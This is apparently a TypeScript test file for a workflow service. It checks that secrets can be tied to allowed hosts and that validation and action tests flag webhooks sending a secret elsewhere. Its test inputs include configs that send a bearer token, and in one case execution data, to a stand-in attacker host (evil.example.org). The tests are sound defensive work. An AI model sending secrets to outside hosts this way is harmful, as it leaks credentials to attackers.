// Hosts of secrets over HTTP: set, changed and listed; other hosts are found by validation and by action tests.
import { describe, expect, test } from "vitest";
import { rehearsals } from "#runners/rehearsal/rehearse.ts";
import { configFindings } from "#runners/draft.ts";
import { actionTypes } from "#runners/registry.ts";
import { openSecrets } from "#services/secrets/open-secrets.ts";
import { api, must, tenantWithKey } from "#test/support/api.ts";

const installed = { allowLoopback: false, email: false, databases: [], services: [], files: false };

async function here() {
  const made = api({ actionTypes, configFindings, rehearse: (lookups) => rehearsals(installed)(lookups) });
  const owner = await tenantWithKey(made);
  const ask = (method: string, path: string, body?: unknown) =>
    made.ask(method, path, { key: owner.key, ...(body === undefined ? {} : { body }) });
  const listed = async () => (await must(200, ask("GET", "/v1/secrets"))).body.data;
  const set = async (body: object) => (await must(200, ask("PUT", "/v1/secrets/token", body))).body;
  const bind = (body: object, query = "") => ask("PATCH", `/v1/secrets/token${query}`, body);
  const bounds = async () => {
    const opened = await openSecrets(made.world, owner.tenant, ["token"]);
    return opened.ok ? opened.bounds : opened.error;
  };
  return { ...made, ...owner, ask, listed, set, bind, bounds };
}
const value = "the-token-itself";

describe("the hosts of a secret", () => {
  test("are set with the secret, listed, and kept when only the value changes", async () => {
    const { world, set, listed, bounds, ask } = await here();
    expect(await set({ value, hosts: ["api.example.com"] })).toMatchObject({ version: 1, hosts: ["api.example.com"] });
    world.clock.now += 1;
    expect(await set({ value: "another-token" })).toMatchObject({ version: 2, hosts: ["api.example.com"] });
    expect(await listed()).toMatchObject([{ name: "token", version: 2, hosts: ["api.example.com"] }]);
    expect(await bounds()).toEqual([{ secret: "token", hosts: ["api.example.com"] }]);
    world.clock.now += 1;
    expect(await set({ value, hosts: null })).toMatchObject({ version: 3, hosts: null });
    expect(await bounds()).toEqual([]);
    const audit = (await must(200, ask("GET", "/v1/audit?target=token"))).body.data;
    expect(audit.map(({ details }: { details: unknown }) => details)).toEqual([
      { hosts: null },
      null,
      { hosts: ["api.example.com"] },
    ]);
  });

  test("can change without the value, at once in this isolate", async () => {
    const { world, set, bind, bounds, listed, ask } = await here();
    await set({ value });
    expect(await bounds()).toEqual([]);
    world.clock.now += 1_000;
    const bound = await must(200, bind({ hosts: ["*.example.com"], reason: "a new provider" }));
    expect(bound.body).toMatchObject({ version: 1, hosts: ["*.example.com"], updatedAt: "2026-11-18T12:00:01.000Z" });
    expect(await bounds()).toEqual([{ secret: "token", hosts: ["*.example.com"] }]);
    const dry = await must(200, bind({ hosts: null }, "?dryRun=true"));
    expect([dry.body.hosts, (await listed())[0].hosts]).toEqual([null, ["*.example.com"]]);
    world.clock.now += 1_000;
    await must(200, bind({ hosts: null }));
    expect(await bounds()).toEqual([]);
    const audit = (await must(200, ask("GET", "/v1/audit?verb=secret.bind"))).body.data;
    expect(audit).toMatchObject([{ details: { hosts: null } }, { reason: "a new provider" }]);
  });

  test("are refused for a missing secret, and if a host is invalid", async () => {
    const { set, bind, ask } = await here();
    await must(404, bind({ hosts: ["api.example.com"] }));
    await must(404, bind({ hosts: ["api.example.com"] }, "?dryRun=true"));
    const wrong = await must(400, ask("PUT", "/v1/secrets/token", { value, hosts: ["https://api.example.com/"] }));
    expect(wrong.body.errors).toMatchObject([
      { pointer: "/hosts/0", message: expect.stringContaining("api.example.com") },
    ]);
    await set({ value });
    expect((await must(400, bind({}))).body.errors).toMatchObject([{ pointer: "/hosts" }]);
    expect((await must(400, bind({ hosts: [] }))).body.errors).toMatchObject([{ pointer: "/hosts" }]);
  });
});

describe("before anything runs", () => {
  const calling = (config: object, type = "webhook") => ({
    kind: "machine",
    name: "calls",
    initial: "calling",
    states: { calling: { on: { "action.call.ok": "done" } }, done: { type: "final" } },
    actions: [{ actionId: "call", type, triggerState: "calling", config }],
  });
  const headers = { Authorization: "Bearer {{ secrets.token }}" };

  test.each<[string, object, string | null]>([
    ["a host outside the secret's hosts", { url: "https://evil.example.org/x", headers }, "/actions/0/config/url"],
    ["a host of the secret", { url: "https://api.example.com/x", headers }, null],
    [
      "an address with data in its path",
      { url: "https://evil.example.org/{{ execution.id }}", headers },
      "/actions/0/config/url",
    ],
    ["a computed host", { url: "https://{{ execution.variables.host }}/x", headers }, null],
    ["another secret", { url: "https://evil.example.org/x", headers: { A: "{{ secrets.other }}" } }, null],
    [
      "an address in the payload",
      { url: "https://api.example.com/x", headers, payload: { url: "https://evil.example.org" } },
      null,
    ],
  ])("validation warns of %s, or does not", async (_what, config, pointer) => {
    const { set, ask } = await here();
    await set({ value, hosts: ["api.example.com"] });
    const { body } = await must(200, ask("POST", "/v1/definitions/validate", calling(config)));
    const about = body.warnings.filter(({ code }: { code: string }) => code === "secret_host_mismatch");
    expect(about.map((each: { pointer: string }) => each.pointer)).toEqual(pointer === null ? [] : [pointer]);
    if (pointer !== null)
      expect(about[0]).toMatchObject({
        severity: "warning",
        message: expect.stringContaining("token"),
        fix: expect.stringContaining("PATCH"),
      });
    expect(body.valid).toBe(true);
  });

  test("validation also checks the token endpoint", async () => {
    const { set, ask } = await here();
    await set({ value, hosts: ["api.example.com"] });
    const authentication = {
      type: "oauth2",
      tokenEndpoint: "https://login.example.net/token",
      clientId: "c",
      clientSecret: "{{ secrets.token }}",
    };
    const config = { url: "https://api.example.com/x", authentication };
    const { body } = await must(200, ask("POST", "/v1/definitions/validate", calling(config, "api_call")));
    expect(body.warnings).toContainEqual(
      expect.objectContaining({ pointer: "/actions/0/config/authentication/tokenEndpoint" }),
    );
  });

  test("an action test fails as the run would, and sends nothing", async () => {
    const { set, ask } = await here();
    await set({ value, hosts: ["api.example.com"] });
    const tested = async (config: object) =>
      (await must(200, ask("POST", "/v1/actions/test", { action: { type: "webhook", config } }))).body;
    const refused = await tested({ url: "https://evil.example.org/x", headers });
    expect(JSON.stringify(refused)).toContain("secret_host_mismatch");
    expect(refused.interactions).toEqual([]);
    const allowed = await tested({ url: "https://api.example.com/x", headers });
    expect(allowed.interactions).toMatchObject([{ url: "https://api.example.com/x" }]);
    // A template may compute the whole URL, so its host is unknown before the action runs.
    const whole = await tested({ url: "{{ secrets.token }}" });
    expect(whole.interactions).toHaveLength(1);
  });
});
